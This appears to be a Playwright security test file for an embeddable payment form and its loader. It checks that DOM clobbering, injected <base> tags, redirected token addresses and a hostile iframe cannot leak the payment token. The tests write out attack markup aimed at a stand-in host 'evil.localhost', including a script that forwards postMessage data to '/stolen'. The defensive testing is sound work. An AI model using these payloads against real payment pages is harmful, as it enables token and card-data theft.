import { expect, type Page, test } from "@playwright/test";
import { embedToken, urls } from "./demo.ts";
import { openBare, snippets, watchTraffic } from "./pages/bare-page.ts";

/** A server of somebody else's, which would answer anything. */
const evil = "http://evil.localhost:9";

test.use({ permissions: ["local-network-access"] });

let script = "";
let loader = "";
test.beforeAll(async () => {
  ({ form: script, loader } = await snippets());
});

const ours = /^(pay-form|loader)\.js|^pay-form:/;
const linesOf = (page: Page) => {
  const lines: string[] = [];
  page.on("console", (message) => {
    if (ours.test(message.text())) lines.push(message.text());
  });
  return lines;
};

/** Answers as an edge and a host of the attacker's would: with a token, a session, scripts of theirs. */
async function serveEvil(page: Page): Promise<void> {
  await page.route(`${evil}/**`, (route) =>
    route.fulfill({
      status: 200,
      contentType: "application/json",
      headers: { "access-control-allow-origin": "*", "access-control-allow-headers": "*" },
      body: JSON.stringify({ token: embedToken("1042") }),
    }),
  );
}

/** One element of each kind that answers for a property of `document` or `window` by its name or id. */
const standIn = (name: string) => `
  <img name="${name}" id="${name}" src="${evil}/v/0.1.0/pay-form.js">
  <form name="${name}" id="${name}" action="${evil}/v/0.1.0/pay-form.js"><input name="src" value="${evil}/v/0.1.0/pay-form.js"></form>
  <object name="${name}" id="${name}"></object>
  <embed name="${name}" id="${name}" hidden>
  <a name="${name}" id="${name}" href="${evil}/v/0.1.0/pay-form.js"></a>
  <svg><script id="${name}" href="${evil}/v/0.1.0/pay-form.js" type="text/plain"></script></svg>`;

/** What may not be named: an image of that name would be no test of ours but the end of the page. */
const namesOf = (page: Page) =>
  page.evaluate(() => {
    const names = new Set<string>();
    for (const start of [document, window] as object[])
      for (let each: object | null = start; each; each = Object.getPrototypeOf(each))
        for (const name of Object.getOwnPropertyNames(each)) if (/^[\w-]+$/.test(name)) names.add(name);
    return [...names];
  });

test("elements named like every property of the document and the window stand in for none", async ({
  page,
}) => {
  test.setTimeout(90_000);
  await page.goto(urls.netsuite);
  const names = await namesOf(page);
  expect(names).toEqual(
    expect.arrayContaining(["currentScript", "createElement", "body", "addEventListener"]),
  );
  await serveEvil(page);
  const token = embedToken("1045");
  const traffic = watchTraffic(page, [token]);
  const markup = names.map(standIn).join("");
  const form = await openBare(page, {
    body: `<div hidden>${markup}</div>${script}<pay-form token="${token}"></pay-form>`,
  });
  await form.ready();
  await form.choose("20.00");
  await form.enterCard("4000 0566 5566 5556");
  await expect(form.payButton).toHaveAttribute("aria-disabled", "false");
  expect(traffic.leaked).toEqual([]);
  expect(traffic.sent).toContain(`POST ${urls.acme}/v1/session`);
});

const clobbers = [
  `<img name="currentScript" src="${evil}/v/0.1.0/pay-form.js">`,
  `<form name="currentScript"><input name="src" value="${evil}/v/0.1.0/pay-form.js"></form>`,
  `<embed name="currentScript" src="${evil}/v/0.1.0/pay-form.js">`,
  `<object id="currentScript" data="${evil}/v/0.1.0/pay-form.js"></object>`,
  `<iframe name="currentScript" src="${evil}/v/0.1.0/pay-form.js"></iframe>`,
  `<script name="currentScript" id="currentScript" type="text/plain" src="${evil}/v/0.1.0/pay-form.js"></script>`,
];
for (const markup of clobbers)
  test(`${markup.slice(0, 28)}…: the token goes to the edge alone`, async ({ page }) => {
    await serveEvil(page);
    const token = embedToken("1045");
    const traffic = watchTraffic(page, [token]);
    const form = await openBare(page, {
      body: `${markup}${script}<pay-form token="${token}"></pay-form>`,
    });
    await form.ready();
    expect(traffic.leaked).toEqual([]);
    expect(traffic.sent).toContain(`POST ${urls.acme}/v1/session`);
  });

test("a <base> turns no address of ours, and no attribute names another edge", async ({ page }) => {
  await serveEvil(page);
  const token = embedToken("1045");
  const traffic = watchTraffic(page, [token]);
  await page.route(`${urls.netsuite}/bare/token`, (route) => route.fulfill({ json: { token } }));
  const form = await openBare(page, {
    head: `<base href="${evil}/">`,
    body: `${script}<pay-form token-url="/bare/token" api="${evil}" data-api="${evil}" src="${evil}/v/1/pay-form.js"></pay-form>`,
  });
  await form.ready();
  expect(traffic.leaked).toEqual([]);
  expect(traffic.sent).toContain(`POST ${urls.netsuite}/bare/token`);
});

for (const [what, address] of [
  ["another origin", `${evil}/token`],
  ["a detour to another origin", "/bare/away"],
] as const)
  test(`a token address of ${what} is not used`, async ({ page }) => {
    await serveEvil(page);
    await page.route(`${urls.netsuite}/bare/away`, (route) =>
      route.fulfill({ status: 307, headers: { location: `${evil}/token` } }),
    );
    const traffic = watchTraffic(page);
    const form = await openBare(page, {
      body: `${script}<pay-form token-url="${address}"></pay-form>`,
    });
    await expect(form.root.getByRole("heading")).toBeVisible({ timeout: 30_000 });
    expect(traffic.origins()).not.toContain(evil);
    expect(traffic.sent.filter((line) => line.endsWith("/v1/session"))).toEqual([]);
  });

let copy = "";
const source = () => /src="([^"]+)"/.exec(script)?.[1] ?? "";
const unknowable: [string, () => string][] = [
  ["an import", () => `<script type="module">import "${source()}";</script>`],
  [
    "a module whose address is the edge's only by way of a <base>",
    () => `<base href="${urls.acme}"><script type="module" src="${new URL(source()).pathname}"></script>`,
  ],
  [
    "an address that is the edge's only by way of a <base>",
    () => `<base href="${urls.acme}"><script src="${new URL(source()).pathname}"></script>`,
  ],
  [
    "an address that holds the script itself",
    () => `<script src="data:text/javascript,${encodeURIComponent(copy)}"></script>`,
  ],
  ["a copy under another address", () => `<script src="${urls.netsuite}/bare/copy.js"></script>`],
  [
    "a copy that looks like the edge's, by way of a <base>",
    () => `<base href="${urls.netsuite}/v/1/"><script src="pay-form.js"></script>`,
  ],
  [
    "a copy that was put into the page",
    () => `<script>fetch("${source()}").then((answer) => answer.text()).then((text) => {
      const script = document.createElement("script");
      script.textContent = text;
      document.body.append(script);
    });</script>`,
  ],
];
for (const [what, markup] of unknowable)
  test(`${what} knows no edge: nothing is sent, and one line says what to do`, async ({ page, request }) => {
    const token = embedToken("1045");
    const traffic = watchTraffic(page, [token]);
    const lines = linesOf(page);
    const own = await request.get(`${urls.edge}${new URL(source()).pathname}`, {
      headers: { host: new URL(urls.acme).host },
    });
    const body = await own.text();
    copy = body;
    await page.route(/\/bare\/copy\.js$|netsuite.*\/v\/1\/pay-form\.js$/, (route) =>
      route.fulfill({ contentType: "text/javascript", body }),
    );
    const form = await openBare(page, { body: `<pay-form token="${token}"></pay-form>${markup()}` });
    await expect(form.root.getByText("Payments are not available right now.")).toBeVisible();
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/<script src="https:\/\/….*pay-form\.js">/);
    expect(traffic.sent.filter((line) => line.startsWith("POST"))).toEqual([]);
    expect(traffic.leaked).toEqual([]);
  });

test.describe("the loader", () => {
  const token = "a.token-of-the-host.s";
  const frame = (src: string, more = "") =>
    `<iframe id="IFRAME_pay" name="IFRAME_pay" src="${src}" ${more}></iframe>`;
  const asked = (page: Page) =>
    page.waitForRequest((call) => call.url() === `${urls.globex}/v1/session`, { timeout: 20_000 });

  test("hands its token to the edge's frame, whatever the page's markup is named", async ({ page }) => {
    await serveEvil(page);
    const traffic = watchTraffic(page, [token]);
    const session = asked(page);
    await openBare(page, {
      origin: urls.d365,
      head: `<base href="${evil}/">`,
      body: `<div hidden>${["currentScript", "querySelector", "querySelectorAll", "location", "forms"].map(standIn).join("")}
        <img name="currentScript" data-token="stolen" data-token-url="${evil}/token" data-frame="#evil" src="${evil}/v/0.1.0/loader.js"></div>
        ${frame(`${urls.globex}/embed`)}
        <script data-token="${token}" data-frame="#IFRAME_pay" ${loader.slice(8).replace(/data-[\w-]+="[^"]*"/g, "")}`,
    });
    expect((await session).postDataJSON()).toMatchObject({ token });
    expect(traffic.leaked).toEqual([]);
  });

  test("as a module finds its own tag, and what stands in it", async ({ page }) => {
    const session = asked(page);
    const lines = linesOf(page);
    await openBare(page, {
      origin: urls.d365,
      body: `${frame(`${urls.globex}/embed`)}
        <script type="text/plain" data-token="stolen" ${loader.slice(8).replace(/data-[\w-]+="[^"]*"/g, "")}
        <script type="module" data-token="${token}" data-frame="#IFRAME_pay" ${loader.slice(8).replace(/data-[\w-]+="[^"]*"/g, "")}`,
    });
    expect((await session).postDataJSON()).toMatchObject({ token });
    // What the form says of such a token is another's.
    expect(lines.filter((line) => line.startsWith("loader.js"))).toEqual([]);
  });

  test("gives a stranger's frame nothing, and does not take it for the one that fits", async ({ page }) => {
    await page.route(`${evil}/**`, (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<script>addEventListener("message", ({ data }) => fetch("/stolen?" + JSON.stringify(data)));
          setInterval(() => parent.postMessage({ type: "pay-hello" }, "*"), 50);</script>`,
      }),
    );
    const stolen: string[] = [];
    page.on("request", (call) => call.url().includes("/stolen") && stolen.push(call.url()));
    const lines = linesOf(page);
    const session = asked(page);
    await openBare(page, {
      origin: urls.d365,
      body: `${frame(`${evil}/embed`)}${frame(`${urls.globex}/embed`)}
        <script data-token="${token}" data-frame="#IFRAME_pay" ${loader.slice(8).replace(/data-[\w-]+="[^"]*"/g, "")}`,
    });
    expect((await session).postDataJSON()).toMatchObject({ token });
    expect(stolen).toEqual([]);
    expect(lines[0]).toContain(urls.globex);
  });

  test("asks no other origin for a token", async ({ page }) => {
    await serveEvil(page);
    const traffic = watchTraffic(page);
    const lines = linesOf(page);
    await openBare(page, {
      origin: urls.d365,
      body: `${frame(`${urls.globex}/embed`)}
        <script data-token-url="${evil}/token" data-frame="#IFRAME_pay" ${loader.slice(8).replace(/data-[\w-]+="[^"]*"/g, "")}`,
    });
    await expect.poll(() => lines.length).toBeGreaterThan(0);
    expect(lines[0]).toContain("own origin");
    expect(traffic.origins()).not.toContain(evil);
  });
});
